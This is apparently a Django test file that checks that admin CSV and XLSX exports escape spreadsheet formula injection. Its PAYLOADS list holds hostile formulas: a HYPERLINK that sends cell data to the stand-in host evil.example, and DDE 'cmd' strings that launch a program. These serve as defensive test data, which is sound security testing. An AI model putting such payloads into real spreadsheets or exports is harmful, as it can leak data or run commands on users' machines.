"""Admin exports hold no live formulas (SECURITY.md A9, review finding 6j)."""

import csv
import io

from django.test import SimpleTestCase
from openpyxl import load_workbook

from ratusz.lib.spreadsheets import (
    FormulaSafeExportMixin,
    escape_formula,
    unescape_formula,
)
from ratusz.test import BaseTestCase, make_article

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class EscapeFormulaTestCase(SimpleTestCase):
    def test_it_prefixes_every_formula_start(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.assertEqual(escape_formula(payload), "'" + payload)

    def test_it_leaves_other_values_alone(self):
        for value in ("Remont drogi", "", "a=b", -5, 3.5, None, "'=już"):
            self.assertEqual(escape_formula(value), value)

    def test_an_escaped_cell_reads_back_as_it_was(self):
        for payload in PAYLOADS:
            with self.subTest(payload=payload):
                self.assertEqual(unescape_formula(escape_formula(payload)), payload)
        for value in ("'cytat", "'", "Remont", "", None, 5):
            self.assertEqual(unescape_formula(value), value)

    def test_the_mixin_and_the_global_guard_escape_once(self):
        from wagtail.admin.views.mixins import SpreadsheetExportMixin

        class View(FormulaSafeExportMixin, SpreadsheetExportMixin):
            pass

        self.assertEqual(View().preprocess_field_value("t", "=1", "csv"), "'=1")


class AdminExportTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        for n, payload in enumerate(PAYLOADS):
            make_article(cls.gmina, f"{payload} {n}")

    def _cells_csv(self, url):
        r = self.client.get(url, {"export": "csv"})
        self.assertEqual(r.status_code, 200)
        text = b"".join(r.streaming_content).decode()
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    def _cells_xlsx(self, url):
        r = self.client.get(url, {"export": "xlsx"})
        self.assertEqual(r.status_code, 200)
        sheet = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
        return [c.value for row in sheet.iter_rows() for c in row]

    def assert_no_formula(self, cells, url):
        titles = [c for c in cells if isinstance(c, str) and c.strip("'")[:1]]
        found = [c for c in titles if any(p in c for p in PAYLOADS)]
        self.assertTrue(found, f"{url}: the payload titles are exported")
        for cell in cells:
            if isinstance(cell, str):
                self.assertFalse(
                    cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
                )

    def test_exports_escape_formulas(self):
        self.client.force_login(self.admin)
        for url in ("/admin/reports/aging-pages/", "/admin/reports/site-history/"):
            with self.subTest(url=url, kind="csv"):
                self.assert_no_formula(self._cells_csv(url), url)
            with self.subTest(url=url, kind="xlsx"):
                self.assert_no_formula(self._cells_xlsx(url), url)
